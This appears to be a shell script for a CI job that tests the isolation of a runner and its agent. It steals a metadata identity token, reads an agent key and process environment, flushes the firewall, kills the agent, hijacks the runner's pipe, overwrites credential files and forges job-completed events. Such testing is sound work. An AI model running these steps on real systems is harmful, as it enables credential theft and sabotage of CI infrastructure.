# A job that wants more than its machine's runner may have. Prints what it got.
set +e
metadata=http://169.254.169.254/computeMetadata/v1/instance
root=$(cd "$GITHUB_WORKSPACE/../../.." && pwd)
listener=$(pgrep -o -x Runner.Listener)
agent=$(pgrep -o -x miglet)

echo "== who I am: another identity of this machine, and the agent's key"
echo "token=[$(curl -s --max-time 5 -H 'Metadata-Flavor: Google' "$metadata/service-accounts/default/identity?audience=miglet-test&format=full")]"
echo "attributes=[$(curl -s --max-time 5 -H 'Metadata-Flavor: Google' "$metadata/attributes/?recursive=true")]"
for port in 53 80 123 443; do
  timeout 5 bash -c "echo > /dev/tcp/169.254.169.254/$port" 2>/dev/null && echo "port $port: open" || echo "port $port: shut"
done
echo "key=[$(cat /run/miglet/agent.key 2>/dev/null)]"
echo "state=[$(ls /run/miglet 2>/dev/null)]"
echo "agent=[$(tr '\0' '\n' < "/proc/$agent/environ" 2>/dev/null)]"
for socket in agent shim; do
  perl -MIO::Socket::UNIX -e 'exit !IO::Socket::UNIX->new(Peer => $ARGV[0])' "/run/miglet/$socket.sock" &&
    echo "$socket.sock: open" || echo "$socket.sock: shut"
done
nft flush ruleset 2>/dev/null && echo "firewall: open" || echo "firewall: shut"
systemctl --no-ask-password stop miglet.service 2>/dev/null && echo "service: open" || echo "service: shut"
kill -9 "$agent" 2>/dev/null && echo "kill: open" || echo "kill: shut"

echo "== noise: the runner's own pipe, from the job"
# Its name in /proc is not ours to open, for the supervisor made it; but a debugger may take the descriptor itself.
noise() {
  perl -e '
    my $process = syscall(434, 0 + $ARGV[0], 0);
    my $pipe = syscall(438, $process, 1, 0);
    die "pidfd_getfd: $!\n" if $pipe < 0;
    open(STDOUT, ">&", $pipe) or die "dup: $!\n";
    exec "cat"' "$listener"
}
set -o pipefail
head -c 1073741824 /dev/zero | tr '\0' x | noise && echo "gigabyte: written"
seq -f 'line %g' 100000 | noise && echo "lines: written"

echo "== lies: another runner, another job"
for file in .runner .credentials .credentials_rsaparams; do
  echo '{"AgentName": "somebody-else", "ServerUrl": "http://169.254.169.2:1"}' > "$root/$file" && echo "$file: changed"
done
perl -MIO::Socket::UNIX -e '
  my ($sent, $lie) = (0, "{\"event\":\"job-completed\",\"job\":{\"repository\":\"evil/evil\",\"workflow\":\"w\",\"run_id\":1,\"run_attempt\":1,\"key\":\"k\"}}\n");
  for (1 .. 10000) { my $s = IO::Socket::UNIX->new(Peer => $ARGV[0]) or next; $s->autoflush; print $s $lie; close $s; $sent++ }
  print "hook: called $sent\n"' /var/lib/miglet/hook.sock
until [ -e "$HOME/gate" ]; do sleep 0.2; done
echo "== let go"
